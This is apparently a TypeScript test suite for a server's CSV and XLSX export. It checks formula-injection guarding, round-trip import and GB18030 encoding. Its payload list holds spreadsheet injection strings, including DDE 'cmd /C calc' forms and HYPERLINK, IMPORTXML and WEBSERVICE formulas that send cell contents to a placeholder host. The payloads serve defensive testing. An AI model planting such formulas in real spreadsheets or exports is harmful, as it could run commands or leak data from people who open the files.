import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../server/import/sheet-csv.ts';
import { readXlsx } from '../../server/import/xlsx.ts';
import { csvOf } from '../../server/platform/export/csv.ts';
import { guarded, unguarded } from '../../server/platform/export/formula-guard.rules.ts';
import { encodeGb18030 } from '../../server/platform/export/gb18030.ts';
import type { Cell, Table } from '../../server/platform/export/table.rules.ts';
import { columnName, xlsxOf } from '../../server/platform/export/xlsx.ts';
import { unpacked } from './archive.support.ts';

/** What people put into cells to have a spreadsheet run it. */
const payloads = [
  '=1+1',
  '=1+1" onmouseover="x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
  '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  '=WEBSERVICE("http://example.invalid")',
  '=DDE("cmd";"/C calc";"x")',
  '=SUM(A1:A9)*cmd|x!A1',
  '==1',
  '=',
  '+1+1',
  '+cmd|x!A1',
  '+86 25 1234',
  '-1+1',
  '-2+3+cmd|x!A1',
  '-',
  '@SUM(1+1)',
  '@A1',
  '@',
  '\t=1+1',
  '\t',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  "'",
  "'@",
  '=1,2',
  '=1;2',
  '="a""b"',
  '=1\n=2',
  '"=1+1"',
  ' =1+1',
  '|=1+1',
] as const;
const risky = /^[=+\-@\t\r\n\0＝＋－＠]/;

const tableOf = (texts: readonly Cell[]): Table<Cell> => ({
  title: '名单',
  columns: [
    { title: '序号', width: 8, value: (cell) => texts.indexOf(cell) },
    { title: '内容', width: 30, value: (cell) => cell },
    { title: '备注', width: 30, value: () => null },
  ],
  rows: texts,
  cover: [['筛选', '=全部']],
  asOf: '2026-11-21',
});
const decoded = (bytes: Uint8Array, encoding: string) =>
  new TextDecoder(encoding, { fatal: true, ignoreBOM: true }).decode(bytes);

describe('a cell of a CSV', () => {
  it('is never the start of a formula, for forty ways to try', () => {
    expect(payloads).toHaveLength(40);
    const text = decoded(csvOf(tableOf(payloads), 'utf-8').bytes, 'utf-8');
    // Read as a spreadsheet does, by RFC 4180 alone.
    const cells = [...text.slice(1).matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map(([, cell = '']) =>
      cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
    );
    expect(cells.length).toBeGreaterThan(payloads.length * 3);
    expect(cells.filter((cell) => risky.test(cell))).toEqual([]);
  });

  it('comes back from our own import as it was', () => {
    const kept = payloads.filter((text) => !text.includes('\0'));
    for (const encoding of ['utf-8', 'gb18030'] as const) {
      const { bytes, unmappable } = csvOf(tableOf(kept), encoding);
      expect(unmappable).toEqual([]);
      const rows = readCsv(decoded(bytes, encoding), ',').slice(2);
      expect(rows.map(([, cell]) => cell)).toEqual(kept);
    }
    fc.assert(fc.property(fc.string(), (text) => unguarded(guarded(text)) === text));
    fc.assert(fc.property(fc.stringMatching(/^'*[=+@-]?.?$/), (text) => unguarded(guarded(text)) === text));
  });

  it('ends its lines with CRLF behind a mark of its encoding, numbers bare, nothing for nothing', () => {
    const text = decoded(csvOf(tableOf(['甲', -5, null]), 'utf-8').bytes, 'utf-8');
    expect(text).toBe(
      '\ufeff名单　筛选：=全部；数据截至：2026-11-21；行数：3\r\n序号,内容,备注\r\n0,甲,\r\n1,-5,\r\n2,,\r\n',
    );
  });
});

describe('GB18030', () => {
  it('gives back every character that has a code', () => {
    const points = Array.from({ length: 0x1_1000 }, (_, point) => point * 16 + (point % 16));
    const all = points.filter((point) => point >= 0x20 && (point < 0xd800 || point > 0xdfff) && point <= 0x10_ffff);
    const text = `${all.map((point) => String.fromCodePoint(point)).join('')}玄武区𠮷龘€〇`;
    const { bytes, unmappable } = encodeGb18030(text);
    expect(unmappable).toEqual([]);
    expect(decoded(bytes, 'gb18030')).toBe(text);
  });

  it('reports what has none, in the file too', () => {
    const { bytes, unmappable } = csvOf(tableOf(['甲\ud800乙', '丙']), 'gb18030');
    expect(unmappable).toEqual(['\ud800']);
    const text = decoded(bytes, 'gb18030');
    expect(text).toContain('甲?乙');
    expect(text.split('\r\n')[0]).toContain('U+D800');
  });
});

describe('a workbook', () => {
  it('holds no formula and no link, and its texts as they are', async () => {
    const kept = payloads.filter((text) => !/[\0\r]/.test(text));
    const bytes = await xlsxOf(tableOf(kept));
    const files = await unpacked(Buffer.from(bytes));
    const sheet = [...files].find(([name]) => /worksheets\/sheet\d+\.xml$/.test(name))?.[1] ?? '';
    expect(sheet).not.toMatch(/<f[ >]|<hyperlink/);
    expect(sheet).toContain(`<autoFilter ref="A2:C${kept.length + 2}"/>`);
    expect([...files.keys()].join(' ')).not.toMatch(/externalLink|vba/i);
    const { rows } = await readXlsx(bytes);
    expect(rows[0]?.[0]).toBe('名单　筛选：=全部；数据截至：2026-11-21；行数：37');
    const read = rows.slice(2).map((row) => row[1] ?? '');
    expect(read.map((text) => text.trim())).toEqual(kept.map((text) => text.trim()));
  });

  it('has days as dates and numbers as numbers', async () => {
    const table: Table<string> = {
      ...{ title: '表:[1]', cover: [], asOf: '2026-11-21', rows: ['2026-02-28', '未摸底'] },
      columns: [{ title: '日', width: 12, day: true, value: (row) => row }],
    };
    const files = await unpacked(Buffer.from(await xlsxOf(table)));
    const sheet = files.get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).toMatch(/<c r="A3"(?![^>]*t="s")[^>]*><v>46081<\/v>/);
    expect(sheet).toMatch(/<c r="A4"[^>]*t="s"/);
    expect(files.get('xl/workbook.xml')).toContain('表__1_');
  });

  it('names columns as spreadsheets do', () => {
    expect([0, 25, 26, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA']);
  });
});
